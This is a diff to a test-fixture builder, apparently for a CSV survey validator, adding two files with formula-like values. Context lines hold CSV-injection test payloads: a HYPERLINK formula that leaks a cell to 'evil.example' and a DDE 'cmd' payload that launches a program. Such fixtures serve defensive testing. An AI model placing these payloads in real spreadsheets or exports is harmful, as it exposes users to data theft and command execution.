@@ -147,6 +147,8 @@ def corpus() -> dict[str, bytes]:
         spoiled(r2_P4='=HYPERLINK("http://evil.example/?leak="&A2,"Click")'))
     files["formula_cmd_answer.csv"] = csv_text(spoiled(r3_R2="+cmd|' /C calc'!A0"))
     files["formula_org_id.csv"] = csv_text(spoiled(r2_org_id='=HYPERLINK("http://evil.example","X")'))
+    files["formula_org_id_plain.csv"] = csv_text(spoiled(r3_org_id="=1+2"))
+    files["formula_respondent_id.csv"] = csv_text(spoiled(r4_respondent_id="@SUM(A1:A9)"))
     files["missing_role_column.csv"] = csv_text([r[:2] + r[3:] for r in GOOD], header=HEADER[:2] + HEADER[3:])
     files["no_item_columns.csv"] = "org_id,respondent_id,role,Q1\nX,a1,agent,3\n"
     files["unnamed_column.csv"] = "org_id,respondent_id,role,P1,,R1\nX,a1,agent,4,oops,3\n"
